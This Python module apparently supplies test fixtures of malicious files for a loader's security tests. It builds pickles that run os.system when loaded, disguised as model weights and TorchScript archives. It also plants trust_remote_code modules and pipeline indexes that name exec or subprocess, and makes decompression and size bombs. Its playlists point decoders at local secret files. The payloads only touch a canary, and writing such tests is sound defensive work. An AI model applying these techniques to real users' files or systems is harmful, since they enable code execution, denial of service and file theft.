"""Files of somebody who means harm: pickles in every wrapping, bombs, playlists, pipelines that name other code."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import av
import numpy as np
import torch

# Code -----------------------------------------------------------------------------------------------------------------


class Runs:
    """Makes a file, the canary, when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch '{self.canary}'",)


OWN_MODULE = """
import os

def touch():
    os.system("touch '{canary}'")

touch()

class Evil:
    @classmethod
    def from_pretrained(cls, *a, **k):
        touch()
        return cls()

class EvilPipeline(Evil):
    pass
"""


def python_of(canary: Path) -> str:
    """A module that makes the canary when it is imported, and whose classes do when they are opened."""
    return OWN_MODULE.format(canary=canary)


def pickled(canary: Path) -> bytes:
    """A pickle as it is."""
    return pickle.dumps(Runs(canary))


def write_pickles(folder: Path, canary: Path) -> list[Path]:
    """Pickles under every name and in every wrapping that weights come in."""
    for name in ("plain.pt", "plain.safetensors", "ViT-B-32-openai.pt", "ViT-B-32-openai.safetensors"):
        (folder / name).write_bytes(pickled(canary))
    torch.save({"state_dict": Runs(canary), "x": torch.zeros(2)}, folder / "zip.pt")
    torch.save({"w": torch.zeros(2), "e": Runs(canary)}, folder / "ViT-B-32-zip.pt")
    torch.save(Runs(canary), folder / "legacy.pth", _use_new_zipfile_serialization=False)
    return sorted(path for path in folder.iterdir() if path.is_file())


class Identity(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def write_torchscripts(folder: Path, canary: Path) -> list[Path]:
    """TorchScript archives whose own pickles are plain ones."""
    torch.jit.script(Identity()).save(folder / "script.pt")
    made = [folder / "script.pt"]
    with zipfile.ZipFile(folder / "script.pt") as source:
        for member in ("data.pkl", "constants.pkl"):
            made.append(folder / f"evil-{member}.pt")
            with zipfile.ZipFile(made[-1], "w") as target:
                for name in source.namelist():
                    evil = pickle.dumps(Runs(canary), protocol=2)
                    target.writestr(name, evil if name.endswith(member) else source.read(name))
    made.append(folder / "evil-attributes.pt")
    with zipfile.ZipFile(made[-1], "w") as target:
        for name, data in (("attributes.pkl", pickled(canary)), ("constants.pkl", pickled(canary)), ("version", b"3")):
            target.writestr(f"archive/{name}", data)
    return made


OVERWRITING = """
import sys, torch

class Evil(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(2))
        self.register_buffer("y", torch.zeros(64))

    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.y = torch.from_file({canary!r}, True, 64).fill_(7.0)
        self.w = state[0]
        self.training = state[1]

    def forward(self, x):
        return x

class Outer(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.inner = Evil()

    def forward(self, x):
        return self.inner(x)

torch.jit.script(Outer()).save(sys.argv[1])
"""
"""TorchScript needs the source of what it compiles, so this one is a file: loading the archive writes the canary."""


def write_hostile_folder(folder: Path, canary: Path) -> None:
    """A network's folder as transformers and open_clip lay it out, with code of its own and pickles for weights."""
    folder.mkdir()
    for name in ("pytorch_model.bin", "model.bin", "open_clip_pytorch_model.bin", "model.pt", "model.safetensors"):
        (folder / name).write_bytes(pickled(canary))
    (folder / "evil.py").write_text(python_of(canary))
    own = {"AutoModel": "evil.Evil", "AutoConfig": "evil.Evil"}
    (folder / "config.json").write_text(json.dumps({"model_type": "dinov2", "auto_map": own}))
    vision = {"image_size": 64, "layers": 2, "width": 32, "head_width": 16, "patch_size": 16}
    text = {"hf_model_name": str(folder), "hf_tokenizer_name": str(folder), "trust_remote_code": True}
    config = {"embed_dim": 32, "vision_cfg": vision, "text_cfg": text}
    (folder / "open_clip_config.json").write_text(json.dumps({"model_cfg": config, "preprocess_cfg": {}}))


# Pipelines ------------------------------------------------------------------------------------------------------------

Change = Callable[[Path, Path], None]


def _index(**changes: Any) -> Change:
    """Other entries in the pipeline's index."""

    def change(folder: Path, canary: Path) -> None:
        path = folder / "model_index.json"
        path.write_text(json.dumps(json.loads(path.read_text()) | changes))

    return change


def _with_code(then: Change) -> Change:
    """Python of a stranger wherever a library might look for it."""

    def change(folder: Path, canary: Path) -> None:
        (folder / "extra").mkdir()
        for place in (folder, *(path for path in folder.iterdir() if path.is_dir())):
            for name in ("evil.py", "pipeline.py", "__init__.py"):
                (place / name).write_text(python_of(canary))
        then(folder, canary)

    return change


def _auto_map(folder: Path, canary: Path) -> None:
    for path in folder.glob("*/*config.json"):
        own = dict.fromkeys(("AutoModel", "AutoConfig", "AutoTokenizer", "AutoModelForCausalLM"), "evil.Evil")
        evil = {"_class_name": "Evil", "architectures": ["Evil"], "tokenizer_class": "Evil", "model_type": "evil"}
        path.write_text(json.dumps(json.loads(path.read_text()) | evil | {"auto_map": own, "trust_remote_code": True}))


def _pickles_beside(folder: Path, canary: Path) -> None:
    for path in folder.glob("*/*.safetensors"):
        for name in (f"{path.stem}.bin", "pytorch_model.bin", "diffusion_pytorch_model.bin"):
            path.with_name(name).write_bytes(pickled(canary))


def _pickles_instead(folder: Path, canary: Path) -> None:
    for path in folder.glob("text_encoder/*.safetensors"):
        for name in (f"{path.stem}.bin", "pytorch_model.bin"):
            path.with_name(name).write_bytes(pickled(canary))
        path.unlink()


def _pickle_in_disguise(folder: Path, canary: Path) -> None:
    for path in folder.glob("vae/*.safetensors"):
        path.write_bytes(pickled(canary))


def _shards_elsewhere(folder: Path, canary: Path) -> None:
    (weights,) = folder.glob("transformer/*.safetensors")
    secret = folder.parent / "secret.safetensors"
    shutil.move(weights, secret)
    (folder.parent / "secret.bin").write_bytes(pickled(canary))
    index = {"metadata": {"total_size": 1}, "weight_map": {"x": str(secret), "y": "../../secret.bin"}}
    (weights.parent / "diffusion_pytorch_model.safetensors.index.json").write_text(json.dumps(index))


PIPELINES: dict[str, Change] = {
    "os.system": _index(scheduler=["os", "system"]),
    "subprocess": _index(extra=["subprocess", "Popen"], transformer=["subprocess", "getoutput"]),
    "builtins": _index(scheduler=["builtins", "exec"]),
    "own module": _with_code(_index(scheduler=["evil", "Evil"])),
    "one more module": _with_code(_index(extra=["evil", "Evil"])),
    "custom pipeline": _with_code(_index(_class_name=["pipeline", "EvilPipeline"])),
    "class name": _with_code(_index(_class_name="EvilPipeline", custom_pipeline="pipeline")),
    "auto_map": _with_code(_auto_map),
    "pickles beside": _pickles_beside,
    "pickles instead": _pickles_instead,
    "pickle in disguise": _pickle_in_disguise,
    "shards elsewhere": _shards_elsewhere,
}


# Bombs ----------------------------------------------------------------------------------------------------------------


def npy_head(shape: object, dtype: str = "|u1") -> bytes:
    """What stands before the data of an .npy; the shape may be any text."""
    text = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}".ljust(100).encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def _npz(path: Path, members: Iterable[tuple[str, bytes, int]]) -> None:
    """Members of a head and some MB of zeros."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, head, megabytes in members:
            with archive.open(f"{name}.npy", "w", force_zip64=True) as member:
                member.write(head)
                for _ in range(megabytes):
                    member.write(bytes(10**6))


def _png(path: Path, side: int) -> None:
    packed = zlib.compressobj(1)
    body = b"".join(packed.compress(bytes(1 + 3 * side)) for _ in range(side)) + packed.flush()
    out = io.BytesIO(b"\x89PNG\r\n\x1a\n")
    out.seek(0, io.SEEK_END)
    for kind, data in ((b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)), (b"IDAT", body), (b"IEND", b"")):
        out.write(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)))
    path.write_bytes(out.getvalue())


def _video(path: Path, *, frames: int = 30, side: int = 64, **tags: str) -> bytes:
    """Black, with tags of its own; gives its bytes."""
    with av.open(str(path), "w") as out:
        out.metadata.update(tags)
        stream = out.add_stream("libx264", rate=8, options={"preset": "ultrafast"})
        stream.height = stream.width = side
        stream.pix_fmt = "yuv420p"
        frame = av.VideoFrame(side, side, "yuv420p")
        for at in range(frames):
            frame.pts = at
            out.mux(stream.encode(frame))
        out.mux(stream.encode(None))
    return path.read_bytes()


def _patched(path: Path, after: tuple[bytes, ...], offset: int, data: bytes) -> None:
    """A video in which a number behind some atom is another one."""
    whole, at = bytearray(_video(path)), 0
    for atom in after:
        at = whole.index(atom, at)
    whole[at + offset : at + offset + len(data)] = data
    path.write_bytes(whole)


def _gif(path: Path) -> None:
    head = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0\0\0\0\xff\xff\xff"
    corner = b"!\xf9\x04\0\x0a\0\0\0," + struct.pack("<HHHH", 0, 0, 1, 1) + b"\0\x02\x02D\x01\0"
    path.write_bytes(head + corner * 50 + b";")


BOMBS: dict[str, Callable[[Path], object]] = {
    "shape.npy": lambda path: path.write_bytes(npy_head((10**9, 1000, 1000, 3)) + bytes(1000)),
    "overflow.npy": lambda path: path.write_bytes(npy_head((2**63, 2**63, 3, 3)) + bytes(100)),
    "program.npy": lambda path: path.write_bytes(npy_head("__import__('os').system('touch canary')")),
    "zeros.npz": lambda path: _npz(path, [("frames", npy_head((12_000, 1000, 1000, 1)), 12_000)]),
    "promise.npz": lambda path: _npz(path, [("frames", npy_head((10**6, 1000, 1000, 3)), 0)]),
    "wide.png": lambda path: _png(path, 30_000),
    "canvas.gif": _gif,
    "frames.mkv": lambda path: _video(path, VDB_FRAMES="1000000000", VDB_SIZE="1x1", VDB_FPS="1e999"),
    "size.mkv": lambda path: _video(path, VDB_SIZE="9" * 5000 + "x1"),
    "digits.mkv": lambda path: _video(path, VDB_FRAMES="9" * 5000),
    "wide.mp4": lambda path: _video(path, frames=200, side=4096),
    "samples.mp4": lambda path: _patched(path, (b"stsz",), 12, (10**9).to_bytes(4, "big")),
    "pixels.mp4": lambda path: _patched(path, (b"stsd", b"avc1"), 28, b"\xff" * 4),
    "huge.y4m": lambda path: path.write_bytes(b"YUV4MPEG2 W60000 H60000 F25:1 Ip C420jpeg\nFRAME\n" + bytes(1000)),
}
"""Small files that promise, or become, more than any machine has."""


def write_reference_bomb(path: Path) -> None:
    """A reference set of nearly five gigabytes of zeros."""
    about = b'{"schema":1,"identities":{}} '
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("about.json.npy", npy_head((len(about),)) + about)
        with archive.open("i3d/features.npy", "w", force_zip64=True) as member:
            member.write(npy_head((3_000_000, 400), "<f4"))
            for _ in range(4800):
                member.write(bytes(10**6))


HEADERS: dict[str, bytes] = {
    "endless": struct.pack("<Q", 2**63),
    "a terabyte": struct.pack("<Q", 2**40) + b"{}",
    "nested": struct.pack("<Q", 200_000) + b"[" * 200_000,
    "deep": struct.pack("<Q", 700_001) + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b" " * 100_000,
}
"""Of safetensors."""

DOCUMENTS = {
    "nested": "[" * 10**6,
    "digits": '{"id": ' + "9" * 10**6 + "}",
    "100 MB": '{"id": "' + "a" * 10**8 + '"}',
}
"""For a run.json."""


# What names other files -----------------------------------------------------------------------------------------------


def playlists(url: str, secret: Path) -> dict[str, str]:
    """Clips that are none, and ask the decoder to open something else."""
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n{key}#EXTINF:9,\n{segment}\n#EXT-X-ENDLIST\n"
    dash = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>'
    dash += f"<Representation><BaseURL>{url}/dash.mp4</BaseURL><SegmentBase/></Representation>"
    dash += "</AdaptationSet></Period></MPD>"
    sdp = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    sdp += "m=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    return {
        "hls.mp4": hls.format(key="", segment=f"{url}/hls.ts"),
        "hls-local.mp4": hls.format(key="", segment=f"file://{secret}"),
        "hls-key.mp4": hls.format(key=f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n', segment="x.ts"),
        "concat.mp4": f"ffconcat version 1.0\nfile {url}/concat.mp4\n",
        "concat-local.mp4": f"ffconcat version 1.0\nfile {secret}\n",
        "concat-up.mp4": f"ffconcat version 1.0\nfile ../{secret.name}\n",
        "dash.mp4": dash,
        "sdp.mp4": sdp,
        "imf.mp4": '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"/>',
    }


PROTOCOLS = (
    *("a cat: at 12:30.mp4", "file:x.mkv", "concat:x.mkv", "data:x.mkv", "cache:x.mkv", "pipe:0.mkv", "tcp:x.mkv"),
    *("100%d.mkv", "f%03d.mkv", "-x.mkv", "a|b.mkv", "subfile,,start,0,end,0,,:x.mkv"),
)
"""Names of good clips that a decoder could take for addresses or patterns."""


def objects(canary: Path) -> Any:
    """An array of Python objects, of which one is a pickle."""
    array = np.empty(2, dtype=object)
    array[0] = Runs(canary)
    return array
